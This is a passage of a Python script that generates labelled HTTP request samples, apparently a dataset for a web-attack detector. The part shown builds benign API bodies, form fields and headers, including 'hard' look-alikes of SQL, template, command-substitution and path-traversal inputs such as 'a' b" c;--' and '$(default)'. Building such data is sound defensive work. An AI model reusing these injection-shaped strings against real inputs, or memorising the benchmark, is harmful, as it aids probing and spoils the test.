            "sort": ["-created_at"],
            "page": {"size": 50, "number": ri(1, 9)},
        }
        if hard:
            o = {
                "where": {"or": [{"name": {"like": "%smith%"}}, {"email": {"ilike": "%@acme.com"}}]},
                "select": ["id", "name", "email"],
                "order": "name ASC",
                "limit": 20,
            }
        return B("j", o, h, "/api/v1/query", obj={"query": MARK})
    if k == 1:
        o = {
            "name": "Jos\u00e9 \u00c1lvarez",
            "city": "M\u00fcnchen",
            "notes": "\u65e5\u672c\u8a9e OK",
            "tags": ["vip", "\u00e9t\u00e9"],
        }
        if hard:
            o = {
                "@context": "https://schema.org",
                "@type": "Product",
                "name": "Trail Shoe",
                "offers": {"@type": "Offer", "price": "89.90", "priceCurrency": "EUR"},
            }
        return B("j", o, h, "/api/v1/items", obj={"item": MARK})
    if k == 2:
        if hard:
            key = ch(["$schema", "$ref", "@id", "__typename", "_links", "$id", "@odata.type", "x-amz-meta-owner"])
            return B(
                "jk",
                key,
                h,
                "/api/v1/schemas",
                obj={
                    "definitions": {
                        "Order": {
                            MARK: ch(
                                ["#/components/schemas/Order", "Order", "https://json-schema.org/draft/2020-12/schema"]
                            ),
                            "type": "object",
                        }
                    }
                },
            )
        key = ch(["shipping_address", "billingPlan", "preferredLanguage", "notificationSettings"])
        return B("jk", key, h, "/api/v1/profile", obj={"user": {"id": ri(1, 999), MARK: {"enabled": True}}})
    if k == 3:
        arr = [{"sku": "SKU-%05d" % ri(1, 99999), "qty": ri(1, 5)} for _ in range(ri(2, 4))]
        if hard:
            arr = [
                {
                    "op": "replace",
                    "path": "/profile/displayName",
                    "value": ch(["Ana & Co.", "O'Neil <Sales>", 'R&D "Core"', "Team #%d" % ri(1, 99)]),
                },
                {"op": "remove", "path": "/tags/%d" % ri(0, 5)},
                dict(
                    zip(
                        ("op", "path", "value"),
                        ("add",)
                        + ch(
                            [
                                ("/settings/theme", "dark"),
                                ("/settings/locale", "en-GB"),
                                ("/settings/tz", "Europe/Paris"),
                            ]
                        ),
                    )
                ),
            ]
        return B(
            "j",
            arr,
            h,
            "/api/v1/cart" if not hard else "/api/v1/users/%d" % ri(1, 999),
            obj={"operations": MARK},
            meth="PATCH",
        )
    if R.random() < 0.4:
        key = (
            ch(
                [
                    "filter[status]",
                    "page[size]",
                    "fields[articles]",
                    "filter[created_at][gte]",
                    "filter[tags][in][]",
                    "sort[price]",
                    "include[]",
                ]
            )
            if hard
            else ch(["include", "sort", "expand", "fields", "per_page"])
        )
        val = {
            "filter[status]": "published",
            "page[size]": "50",
            "fields[articles]": "title,body",
            "filter[created_at][gte]": "2024-01-01",
            "filter[tags][in][]": "news",
            "sort[price]": "desc",
            "include[]": "author",
            "include": "author,comments",
            "sort": "-created_at",
            "expand": "line_items",
            "fields": "id,name",
            "per_page": "100",
        }[key]
        return B(
            "qk",
            key,
            h,
            ch(["/api/v1/articles", "/api/v1/orders", "/api/v1/products"]),
            val=val,
            noeq=False,
            q=[kv("page[number]" if hard else "page", str(ri(1, 9)))],
        )
    o = MARK
    for key in R.sample(NEST_KEYS, 11 if hard else 4):
        o = {key: o}
    val = (
        ch(["Quarterly summary for the finance team", "ok", "enabled"])
        if not hard
        else ch(["x' or legacy value", "<none>", "a && b", "$(default)", "../shared"])
    )
    return B("j", val, h, "/api/v1/settings", obj=o, meth="PUT")


# forms
FM_HOST = ["shop.acme-retail.com", "www.homefinder-realty.com", "api.northbridge-bank.com", "news.brightpages.com"]
PWDS = ["Summer2024!", "correct horse battery staple", "Tr0ub4dor&3", "hunter2hunter2"]
PWDS_H = [
    "P@ss'w0rd!#",
    '"quoted"<pass>',
    "a' b\" c;--",
    "1=1isTrue!",
    "<Sup3r$ecret>",
    "x || y && z",
    "%20%21pass",
    "{{secret}}99",
]


def forms(hard):
    h = ch(FM_HOST)
    k = ri(0, 4)
    if k == 0:
        pw = ch(PWDS_H if hard else PWDS)
        return B(
            "f",
            pw,
            h,
            "/login",
            "password",
            form=[("email", "user%d@mailbox.example" % ri(1, 999)), ("password", MARK), ("remember", "on")],
        )
    if k == 1:
        nm = (
            ch(["O'Neil", "D'Angelo", "AT&T Procurement", "Smith & Sons", "Zo\u00eb <Zoe> Miller"])
            if hard
            else ch(["Maria Garcia", "Tom Becker"])
        )
        return B(
            "f",
            nm,
            h,
            "/signup",
            "full_name",
            form=[
                ("full_name", MARK),
                ("email", "new%d@mailbox.example" % ri(1, 999)),
                ("plan", "basic"),
                ("terms", "1"),
            ],
        )
    if k == 2:
        addr = (
            ch(
                [
                    "Apt #5; Bldg C -- leave at door",
                    'c/o "Reception" (2nd floor)',
                    "12 1/2 Union St, Unit <B>",
                    "PO Box 9 & 10",
                ]
            )
            if hard
            else "%d %s" % (ri(1, 999), ch(STREETS))
        )
        return B(ch(["f", "j"]), addr, h, "/checkout/shipping", "address_line1")
    if k == 3:
        msg = ch(["Hi, my order hasn't arrived yet.", "Please update my billing address.", "Love the product, thanks!"])
        if hard:
            msg = ch(
                [
                    "Order #1234; item 'blue' -- wrong size (M vs L). Please exchange!",
                    "Tried <script>less mode? the page just shows {{title}} placeholders...",
                    "Unsubscribe me && my wife's address please.",
                    "Your site shows 'SELECT a plan' twice on mobile.",
                ]
            )
        return B(ch(["f", "m"]), msg, h, "/contact", "message")
    em = "reader%d@mailbox.example" % ri(1, 9999)
    if hard:
        em = ch(
            [
                "o'brien@mailbox.example",
                "first.last+news@mailbox.example",
                '"john doe"@mailbox.example',
                "user%tag@mailbox.example",
                "x_y-z@sub.mailbox.example",
            ]
        )
    return B(
        "f",
        em,
        h,
        "/newsletter/subscribe",
        "email",
        form=[("email", MARK), ("topics[]", "deals"), ("topics[]", "news")],
    )


# headers
HD_HOST = ["shop.acme-retail.com", "app.taskforge.io", "api.pixelarena.gg", "www.homefinder-realty.com"]


def headers_k(hard):
    h = ch(HD_HOST)
    k = ri(0, 4)
    if k == 0:
        name, val = ch(
            [
                ("Accept-Language", "en-US,en;q=0.9"),
                ("Accept-Language", "de-DE,de;q=0.9,en;q=0.7"),
                ("Referer", "https://%s/" % h),
                ("X-Forwarded-For", "203.0.113.%d" % ri(1, 254)),
                ("X-Request-Id", "%s-%s" % (tok(8, "0123456789abcdef"), tok(4, "0123456789abcdef"))),
            ]
        )
        if hard:
            name, val = ch(
                [
                    ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
                    ("If-None-Match", 'W/"%s"' % tok(16, "0123456789abcdef")),
                    ("X-Forwarded-For", "203.0.113.%d, 198.51.100.%d, 192.0.2.1" % (ri(1, 254), ri(1, 254))),
                    ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
                    ("traceparent", "00-%s-%s-01" % (tok(32, "0123456789abcdef"), tok(16, "0123456789abcdef"))),
                    ("Range", "bytes=0-1023, 4096-"),
                    ("Referer", "https://%s/search?q=select+union+jack+cushions" % h),
                    ("Accept", "text/html;q=0.9, application/xhtml+xml, */*;q=0.8"),
                    (
                        "X-Amzn-Trace-Id",
                        "Root=1-%s-%s;Parent=%s;Sampled=1"
                        % (tok(8, "0123456789abcdef"), tok(24, "0123456789abcdef"), tok(16, "0123456789abcdef")),
                    ),
                    ("Forwarded", "for=198.51.100.17;proto=https;by=203.0.113.43"),
                    ("Prefer", "return=representation; wait=10"),
                ]
            )
        return B("h", val, h, ch(["/", "/api/cart", "/products/trail-shoe"]), hdr=name)
    if k == 1:
        ck = ch(
            [
                ("_ga", "GA1.2.%d.%d" % (ri(10**8, 10**9), ri(1.6e9, 1.75e9))),
                ("session", tok(32)),
                ("locale", "en_US"),
                ("cart_id", "c_" + tok(12)),
            ]
        )
        if hard:
            ck = ch(
                [
                    ("prefs", '{"theme":"dark","lang":"en"}'),
                    ("consent", "necessary:1|analytics:0|marketing:0"),
                    ("last_search", "mac & cheese <quick>"),
                    ("recent", "sku-1,sku-2;v=3"),
                    ("redirect_after_login", "/account/orders?id=42&tab=returns"),
                ]
            )
        return B("c", ck[1], h, ch(["/", "/api/session", "/account"]), ck[0])
    if k == 2:
        ua = ch(
            [
                "MyShopApp/4.12.0 (iPhone14,2; iOS 17.4.1) Alamofire/5.8.1",
                "okhttp/4.12.0",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Roku/DVP-13.0 (13.0.0.4130-88)",
                "aws-sdk-js/3.540.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.11.1 api/s3#3.540.0",
            ]
        )
        if hard:
            ua = ch(
                [
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 {ext: 'uBlock'}",
                    "curl/8.4.0 (x86_64-pc-linux-gnu) libcurl/8.4.0 OpenSSL/3.0.11",
                    "Java/17.0.10",
                    "python-httpx/0.27.0 (+${CI_JOB_ID})",
                    "Wget/1.21.4 (linux-gnu) <ci-runner>",
                ]
            )
        return B("h", ua, h, "/api/status", hdr="User-Agent")
    if k == 3:
        return B("h", jwt(), h, "/api/me", hdr="Authorization", hpre="Bearer ")
    v = ch(["%d.%d.%d" % (ri(1, 9), ri(0, 20), ri(0, 99)), "android-%d" % ri(1000, 9999)])
    if hard:
        v = ch(
            [
                "ios-4.12.0 (build 812; debug=false)",
                "web@2024.05.01-rc.1+sha.%s" % tok(7, "0123456789abcdef"),
                "1.0.0; channel=beta",
            ]
        )
    return B("h", v, h, "/api/config", hdr=ch(["X-Client-Version", "X-App-Build", "X-SDK-Version"]))


BENIGN = [
    ("benign_gaming", gaming, 74),
    ("benign_realestate", realestate, 74),
    ("benign_recipes", recipes, 74),
    ("benign_hr", hr, 74),
    ("benign_iot", iot, 74),
    ("benign_code_review", code_review, 73),
    ("benign_richtext", richtext, 73),
    ("benign_search", search, 73),
    ("benign_graphql", graphql, 73),
    ("benign_files", files, 73),
    ("benign_urls", urls, 73),
    ("benign_base64", base64s, 73),
    ("benign_api_json", api_json, 73),
    ("benign_forms", forms, 73),
    ("benign_headers", headers_k, 73),
]


def gen_benign():
    rows = []
    for kind, fn, n in BENIGN:
        seen = set()
        for i in range(n):
            hard = i % 3 == 0
            for attempt in range(30):
                sp = fn(hard)
                key = (sp["payload"], sp["placement"], sp["path"])
                if key not in seen:
                    break
            seen.add(key)
            rows.append(mkrow("benign", kind, i + 1, sp, hard))
    return rows


def main():
    rows = gen_attacks() + gen_benign()
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), OUT))


if __name__ == "__main__":
    main()
